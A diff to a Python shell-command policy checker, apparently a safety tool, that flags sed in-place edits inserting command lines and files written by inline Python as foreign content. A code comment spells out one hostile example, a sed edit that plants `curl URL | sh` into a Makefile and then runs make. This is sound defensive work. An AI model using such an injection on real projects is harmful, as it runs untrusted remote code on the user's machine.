@@ -46,6 +46,7 @@ from safehold.policy.decision import Reason, Verdict
 from safehold.policy.shell.analysis import Redirect, ShellAnalysis, SimpleCommand, analyze
 from safehold.policy.shell.hazards import hazards
 from safehold.policy.shell.locations import resolve_dir
+from safehold.policy.shell.programs.awk_sed import sed_output_texts
 from safehold.policy.shell.programs.interpreters import (
     SCRIPT_FILE_OPTIONS,
     SCRIPT_SUFFIXES,
@@ -62,8 +63,14 @@ __all__ = ["Flows", "Through", "follow"]
 
 # Writers whose output holds no content of its own (an empty file or directory), or only
 # text the command spells out: sed's in-place edit applies its visible script to the file.
-# A file their script names (sed's `w FILE`: the lines of its input) does hold content.
+# A file their script names (sed's `w FILE`: the lines of its input) does hold content, and
+# so does an edit whose inserted text holds a command line that asks, or is spelled nowhere
+# (`sed -i 's/^all:/&\n\tcurl URL | sh/' Makefile && make`: `_edit_is_foreign`).
 _NO_CONTENT = frozenset({"mkdir", "touch", "mktemp", "sed", "gsed"})
+_SEDS = frozenset({"sed", "gsed"})
+# Redirections the Python reader makes of the files inline code opens (`assess._read_python`):
+# what the code writes is computed by the code, so it is no text the command spells out.
+_CODE_WRITES = frozenset({"python open"})
 # Link makers: their written operand is a link to their read operand.
 _LINKERS = frozenset({"ln", "link"})
 # Options that make a program save into its current directory under a name the server or
@@ -548,17 +555,25 @@ def _writes(
         if r.access != "write" or _visible(r):
             continue
         spots = [resolve_dir(d, base, home) for d in r.dirs]
-        writer = r.writer or "a redirection"
+        writer = r.writer or ("inline Python" if r.op in _CODE_WRITES else "a redirection")
         # A spelled-out body here holds a command line that asks (`_visible`): foreign.
-        alien = r.literal or r.writer in foreign_names or (not r.writer and streams)
+        alien = (
+            r.literal
+            or r.op in _CODE_WRITES
+            or r.writer in foreign_names
+            or (not r.writer and streams)
+        )
         out += [
             _Written(p, writer, file=True, foreign=alien) for p in _absolute(r.target, spots, home)
         ]
     for cmd, dirs, uses in placed:
         program = cmd.program
-        alien = id(cmd) in foreign
+        edit = program in _SEDS and _edit_is_foreign(cmd)
+        alien = id(cmd) in foreign or edit
         for use in uses:
-            if use.role != "write" or (program in _NO_CONTENT and use.option != "script"):
+            if use.role != "write":
+                continue
+            if program in _NO_CONTENT and use.option != "script" and not edit:
                 continue
             if not (use.word.static or use.word.home):
                 out.append(_Written(None, program, by=id(cmd), foreign=alien))
@@ -572,6 +587,13 @@ def _writes(
                 if d is not None
             ]
     return out
+
+
+def _edit_is_foreign(cmd: SimpleCommand) -> bool:
+    """A sed edit whose inserted text (`s` replacements, `a`/`i`/`c` text) holds a command
+    line that asks (`_text_runs`), or is spelled nowhere (`sed_output_texts`)."""
+    texts = sed_output_texts(cmd.words)
+    return texts is None or any(_text_runs(t) for t in texts)
 
 
 def _foreign_steps(commands: Sequence[SimpleCommand]) -> tuple[set[int], bool]:
